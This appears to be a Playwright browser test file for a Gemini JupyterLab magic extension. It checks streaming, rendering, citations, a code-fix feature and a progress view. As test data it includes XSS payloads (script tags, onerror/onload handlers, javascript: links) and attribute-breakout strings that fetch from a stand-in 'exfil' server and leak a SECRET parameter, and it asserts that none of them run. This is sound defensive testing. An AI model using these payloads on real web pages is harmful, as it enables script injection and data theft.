"""What users see: JupyterLab in a real Chromium, driven by Playwright.

Streaming is visible while the server holds the rest back; the final static output replaces the
widget; tables, nested lists, highlighted code and math render; the image has its natural size;
citations are links and the Search Suggestions sit in their sandbox; hostile output runs nothing;
and after save + reload with the kernel stopped, everything is still there.
"""

from __future__ import annotations

import json
import os
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from conftest import FAKE_KEY, kernel_env
from gemini_server import (
    GeminiTestServer,
    Recorded,
    Reply,
    error_reply,
    fixture_bytes,
    fixture_sse,
    json_reply,
    prompt_of,
    row_answer,
    sse,
    text_events,
)
from lab import CHROMIUM, CHROMIUM_ARGS, Lab

ARTIFACTS = Path(__file__).parent / "artifacts"

if not Path(CHROMIUM).exists():
    FIX = (
        "GEMINI_MAGIC_CHROMIUM points there; set it to a Chromium binary, or unset it and run bash tests/run.sh"
        if "GEMINI_MAGIC_CHROMIUM" in os.environ
        else "run bash tests/run.sh, which installs it (or set GEMINI_MAGIC_CHROMIUM to a Chromium binary)"
    )
    if os.environ.get("CI", "").lower() not in ("", "0", "false"):
        raise RuntimeError(f"browser tests need Chromium at {CHROMIUM}: {FIX}")
    pytest.skip(f"no Chromium at {CHROMIUM}: {FIX}", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api")

RICH_REST = (
    "| Planet | Moons |\n|---|---:|\n| Mars | 2 |\n| Earth | 1 |\n\n"
    "* Inner planets\n  * Mercury\n  * Venus\n* Outer planets\n\n"
    "```python\ndef greet(name):\n    return f'hi {name}'\n```\n\n"
    "Euler's identity: $e^{i\\pi} + 1 = 0$\n"
)
HOSTILE = (
    "Hostile text <script>window.pwned = 'script'</script> "
    "<img src=x onerror=\"window.pwned = 'onerror'\"> [click me](javascript:window.pwned='link') "
    "<svg onload=\"window.pwned = 'svg'\"></svg> <iframe src=\"javascript:parent.pwned='iframe'\"></iframe> done."
)


def hostile_reply() -> Reply:
    event = {
        "candidates": [
            {
                "content": {"role": "model", "parts": [{"text": HOSTILE}]},
                "finishReason": "STOP",
                "groundingMetadata": {
                    "groundingChunks": [
                        {
                            "web": {
                                "uri": "javascript:window.pwned='cite'",
                                "title": "<img src=x onerror=\"window.pwned='title'\">",
                            }
                        }
                    ],
                    "groundingSupports": [
                        {"segment": {"endIndex": 12, "text": "Hostile text"}, "groundingChunkIndices": [0]}
                    ],
                    "webSearchQueries": ["<img src=x onerror=\"window.pwned='query'\">"],
                    "searchEntryPoint": {"renderedContent": "<script>parent.pwned='chip'</script><b>chip</b>"},
                },
            }
        ],
        "modelVersion": "gemini-test-001",
    }
    return Reply([f"data: {json.dumps(event)}\r\n\r\n".encode()])


def math_payloads(exfil: str) -> str:
    """Math spans inside an image's alt, a link's text and title, and code, in all three math forms.

    Each tries to break out of its attribute into an event handler that sets ``window.pwned`` and
    fetches from *exfil* (a second loopback server); the images themselves point there too.
    """
    handler = f"window.pwned='math';fetch('{exfil}/handler')"
    return (
        "".join(
            f'![{o}" onerror="{handler}" x="{c}]({exfil}/img-{n}.png) '
            f'[link {o}" onmouseover="{handler}" x="{c}]({exfil}/link "{o}" onfocus="{handler}" x="{c}") '
            f'`{o}" onerror="{handler}" {c}`\n\n'
            for n, (o, c) in enumerate((("$$", "$$"), ("\\(", "\\)"), ("$a", "b$")))
        )
        + "Remote image: ![leak]("
        + exfil
        + "/leak?d=SECRET) end of math payloads."
    )


@pytest.fixture(scope="module")
def lab(server: GeminiTestServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    root = tmp_path_factory.mktemp("lab")
    running = Lab(root, kernel_env(server)).start()
    yield running
    running.stop()


@pytest.fixture(scope="module")
def page(lab: Lab) -> Iterator[Any]:
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1500, "height": 1100})
        yield context.new_page()
        browser.close()


def write_notebook(path: Path, cells: list[str]) -> None:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
    nbformat.write(nb, path)


def open_notebook(page: Any, lab: Lab, name: str) -> None:
    page.goto(f"{lab.url}/lab/tree/{name}?token={lab.token}")
    page.wait_for_selector(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook", timeout=60_000)
    current = page.locator("#jp-main-dock-panel .lm-TabBar-tab.lm-mod-current .lm-TabBar-tabLabel")
    sync_api.expect(current).to_have_text(name, timeout=60_000)  # not a notebook the workspace restored
    status = page.locator("#jp-main-statusbar .jp-StatusBar-TextItem").filter(has_text="|").first
    sync_api.expect(status).to_have_text(re.compile(r"^(?!No Kernel).*\| Idle$"), timeout=60_000)


def run_all(page: Any) -> None:
    page.locator("#jp-MainMenu .lm-MenuBar-itemLabel", has_text="Run").first.click()
    page.locator('.lm-Menu-item[data-command="runmenu:run-all"]').click()


def wait_all_done(page: Any, cells: int, timeout: float = 60_000) -> None:
    page.wait_for_function(
        """(n) => {
            const prompts = [...document.querySelectorAll('.jp-CodeCell .jp-InputPrompt')].map(e => e.textContent.trim());
            return prompts.length === n && prompts.every(p => /^\\[\\d+\\]:$/.test(p));
        }""",  # noqa: E501
        arg=cells,
        timeout=timeout,
    )


CELLS = ".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook .jp-CodeCell"  # of the notebook on show


def cell(page: Any, index: int) -> Any:
    return page.locator(CELLS).nth(index)


def run_cell(page: Any, index: int) -> None:
    """Run one cell with Ctrl+Enter and wait until it has run (its prompt no longer says ``[*]``)."""
    cell(page, index).scroll_into_view_if_needed()
    cell(page, index).locator(".jp-InputArea-editor").click()
    page.keyboard.press("Control+Enter")
    prompt = cell(page, index).locator(".jp-InputPrompt")
    sync_api.expect(prompt).not_to_have_text("[ ]:", timeout=10_000)  # queued or running, then done
    sync_api.expect(prompt).not_to_have_text("[*]:", timeout=30_000)


@pytest.mark.needs_fixtures
def test_live_stream_final_output_and_reload(page: Any, lab: Lab, gemini: GeminiTestServer) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    gate = threading.Event()
    rich = sse(text_events(["First words arrive now.\n\n", RICH_REST]))
    rich.steps.insert(1, gate)
    exfil = GeminiTestServer().start()  # what a payload would reach if it ran or loaded
    gemini.push(
        rich,
        json_reply(fixture_bytes("pydantic-ai__image-output-inlineData_gemini-2.5-flash-image.json")),
        fixture_sse("pydantic-ai__google-search-grounding_gemini-2.5-pro.sse"),
        hostile_reply(),
        sse(text_events(["Math payloads:\n\n", math_payloads(exfil.url)])),
    )
    cells = [
        "%load_ext gemini_magic",
        "%%gemini\nTell me about planets",
        "%%gemini -m gemini-2.5-flash-image --image --no-stream\nDraw an axolotl",
        "%%gemini -m gemini-2.5-pro --search\nWeather in London?",
        "%%gemini --search\nBe hostile",
        "%%gemini\nMath in attributes",
    ]
    write_notebook(lab.root / "demo.ipynb", cells)
    open_notebook(page, lab, "demo.ipynb")
    run_all(page)

    # Streaming is visible: the first words are on screen while the server holds the rest.
    live = page.locator(".gemini-live")
    sync_api.expect(live).to_contain_text("First words arrive now.", timeout=30_000)
    assert "Mercury" not in live.inner_text()
    assert gemini.requests[0].outcome == "open"
    page.screenshot(path=str(ARTIFACTS / "streaming.png"))
    gate.set()
    wait_all_done(page, len(cells))

    answers = page.locator(".jp-OutputArea-output .gemini-magic")
    sync_api.expect(answers.first).to_contain_text("Mercury")
    assert page.locator(".gemini-live").count() == 0
    body_text = page.locator(".jp-Notebook").inner_text()
    assert "Error displaying widget" not in body_text and "Loading widget" not in body_text
    first = cell(page, 1).locator(".gemini-magic")
    assert first.locator("table td", has_text="Mars").count() == 1
    assert first.locator("ul ul li", has_text="Mercury").count() == 1
    assert first.locator("pre code.gm-hl span[class]").count() > 0
    first.locator("mjx-container").first.wait_for(timeout=30_000)  # MathJax typeset the formula

    # The image keeps its natural size.
    image = page.locator(".jp-OutputArea-output img").first
    size = image.evaluate("i => [i.naturalWidth, i.naturalHeight, i.clientWidth, i.clientHeight]")
    assert size == [1024, 1024, 1024, 1024]

    # Citations are links to the sources; the Search Suggestions render inside their sandbox.
    grounded = cell(page, 3)
    markers = grounded.locator("sup.gm-cite a")
    assert markers.count() >= 8
    recorded = fixture_bytes("pydantic-ai__google-search-grounding_gemini-2.5-pro.sse").split(b"\r\n\r\n")
    final_event = json.loads([block for block in recorded if block.strip()][-1][len(b"data: ") :])
    uris = {c["web"]["uri"] for c in final_event["candidates"][0]["groundingMetadata"]["groundingChunks"]}
    hrefs = {markers.nth(i).get_attribute("href") for i in range(markers.count())}
    assert hrefs <= uris and len(hrefs) >= 3
    frame = grounded.locator("iframe.gm-search-suggestions")
    assert "allow-scripts" not in frame.get_attribute("sandbox")
    assert page.frame_locator("iframe.gm-search-suggestions").first.locator("body").inner_text(timeout=10_000).strip()

    # Hostile output ran nothing: no handler fired, no request left the page.
    hostile = cell(page, 4).locator(".gemini-magic")
    sync_api.expect(hostile).to_contain_text("done.")
    math = cell(page, 5).locator(".gemini-magic")
    sync_api.expect(math).to_contain_text("end of math payloads.")
    for link in math.locator("a").all():
        link.hover()  # an injected onmouseover would fire now
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None
    assert dialogs == []
    assert exfil.requests == [], [r.path for r in exfil.requests]
    assert math.locator("img").count() == 0 and math.locator("a.gm-remote-image").count() == 4
    assert math.locator("a.gm-remote-image").last.inner_text() == "🖼 leak"
    first.scroll_into_view_if_needed()
    page.screenshot(path=str(ARTIFACTS / "final.png"))

    # Save, stop the kernel, reload: the static outputs are still there.
    page.keyboard.press("Control+s")
    page.wait_for_function("() => !document.querySelector('.jp-mod-dirty')", timeout=20_000)
    saved = json.loads((lab.root / "demo.ipynb").read_text())
    assert "Mercury" in json.dumps(saved) and FAKE_KEY not in json.dumps(saved)
    lab.stop_sessions()
    page.reload()
    page.wait_for_selector(".jp-Notebook", timeout=60_000)
    answers = page.locator(".jp-OutputArea-output .gemini-magic")
    sync_api.expect(answers.first).to_contain_text("Mercury", timeout=30_000)
    cell(page, 2).scroll_into_view_if_needed()
    sync_api.expect(cell(page, 2).locator(".jp-OutputArea-output img")).to_have_count(1, timeout=30_000)
    cell(page, 3).scroll_into_view_if_needed()
    cell(page, 3).locator("sup.gm-cite a").first.wait_for(timeout=30_000)
    assert cell(page, 3).locator("sup.gm-cite a").count() >= 8
    cell(page, 5).scroll_into_view_if_needed()
    sync_api.expect(cell(page, 5).locator(".gemini-magic")).to_contain_text("end of math payloads.", timeout=30_000)
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None and dialogs == []
    assert exfil.requests == [], [r.path for r in exfil.requests]
    exfil.stop()
    page.screenshot(path=str(ARTIFACTS / "reloaded.png"))


def test_fix_puts_the_corrected_code_in_a_new_cell_below(page: Any, lab: Lab, gemini: GeminiTestServer) -> None:
    fixed = "total = sum(prices)\nprint(total)"
    gemini.push(sse(text_events(["`prices` was never defined as `price`.\n\n", f"```python\n{fixed}\n```\n"])))
    cells = ["%load_ext gemini_magic", "prices = [3, 4]\ntotal = sum(price)", "%gemini fix"]
    write_notebook(lab.root / "fix.ipynb", cells)
    open_notebook(page, lab, "fix.ipynb")
    for index in range(len(cells)):  # one by one, as a user works: the second cell fails
        run_cell(page, index)
    sync_api.expect(cell(page, 1).locator(".jp-OutputArea-output")).to_contain_text("NameError", timeout=30_000)
    sync_api.expect(cell(page, 2).locator(".gemini-magic")).to_contain_text("never defined", timeout=30_000)
    sync_api.expect(page.locator(CELLS)).to_have_count(len(cells) + 1, timeout=30_000)
    new_cell = cell(page, 3).locator(".jp-InputArea-editor")
    assert new_cell.inner_text().strip() == fixed
    sent = gemini.requests[0].body["contents"][0]["parts"][-1]["text"]
    assert "total = sum(price)" in sent and "NameError" in sent
    assert cell(page, 3).locator(".jp-OutputArea-output").count() == 0  # placed, not run
    page.keyboard.press("Escape")
    page.keyboard.press("Control+s")  # saved: leaving the page asks nothing
    page.wait_for_function("() => !document.querySelector('.jp-mod-dirty')", timeout=20_000)


TICKETS_CELL = """\
import pandas as pd
hostile = "<img src=x onerror=\\"window.pwned='progress'\\">"
tickets = pd.DataFrame({"text": [f"ticket {i} {hostile}" for i in range(80)]})
"""
MODELS_CELL = """\
from ipywidgets.widgets.widget import _instances
print("open models:", len(_instances), "rows:", len(_gemini_table))
"""


def slow_row_answer(record: Recorded) -> Reply:
    """Each row answered after 0.1 s, quoting its prompt; ticket 3 refused."""
    if "ticket 3 " in prompt_of(record):
        return error_reply(400, "INVALID_ARGUMENT", "This row is refused.")
    reply = row_answer(record)
    reply.before.insert(0, 0.1)
    return reply


def test_progress_view_counts_live_then_leaves_a_table(page: Any, lab: Lab, gemini: GeminiTestServer) -> None:
    """``%%gemini --each`` over 80 rows: one live view that counts up at no more than 5 updates a second
    and shows the last answers inertly, then a summary and the first 10 rows; no widget model stays open."""
    gemini.responder = slow_row_answer
    cells = [
        "%load_ext gemini_magic",
        TICKETS_CELL,
        "%%gemini --each tickets --concurrency 2\nClassify: {text}",
        MODELS_CELL,
    ]
    write_notebook(lab.root / "progress.ipynb", cells)
    open_notebook(page, lab, "progress.ipynb")
    run_cell(page, 0)
    run_cell(page, 1)
    cell(page, 2).locator(".jp-InputArea-editor").click()
    page.keyboard.press("Control+Enter")
    live = cell(page, 2).locator(".gemini-progress")
    sync_api.expect(live).to_contain_text("rows/s", timeout=30_000)
    page.evaluate(
        """() => {
            window.progressUpdates = [];
            const target = document.querySelector('.gemini-progress .widget-html-content');
            new MutationObserver(() => window.progressUpdates.push(performance.now()))
                .observe(target, {childList: true, subtree: true, characterData: true});
        }"""
    )
    counted = re.compile(r"(\d+)/80 rows")
    first = int(counted.search(live.inner_text()).group(1))
    page.wait_for_timeout(1200)
    text = live.inner_text()
    assert int(counted.search(text).group(1)) > first, text
    assert "█" * 40 in text and "ETA" in text and "1 error" in text and "tokens " in text
    assert "answer to: Classify: ticket" in text and "<img src=x" in text  # the last answers, as text
    ARTIFACTS.mkdir(exist_ok=True)
    live.screenshot(path=str(ARTIFACTS / "progress.png"))
    prompt = cell(page, 2).locator(".jp-InputPrompt")
    sync_api.expect(prompt).not_to_have_text("[*]:", timeout=30_000)

    updates = page.evaluate("window.progressUpdates")
    seconds = (updates[-1] - updates[0]) / 1000
    assert 3 <= len(updates) <= 5 * seconds + 2, (len(updates), seconds)
    assert live.count() == 0
    static = cell(page, 2).locator(".gemini-magic")
    sync_api.expect(static).to_contain_text("80 rows in ")
    assert static.locator("tbody tr").count() == 10 and "first 10 of 80 rows" in static.inner_text()
    assert "1 error" in static.inner_text() and "This row is refused." in static.inner_text()
    assert static.locator("img").count() == 0
    assert (
        "Error displaying widget" not in page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook").inner_text()
    )
    assert page.evaluate("window.pwned") is None
    assert len(gemini.requests) == 80
    cell(page, 2).screenshot(path=str(ARTIFACTS / "progress-final.png"))
    run_cell(page, 3)
    sync_api.expect(cell(page, 3).locator(".jp-OutputArea-output")).to_contain_text("open models: 0 rows: 80")
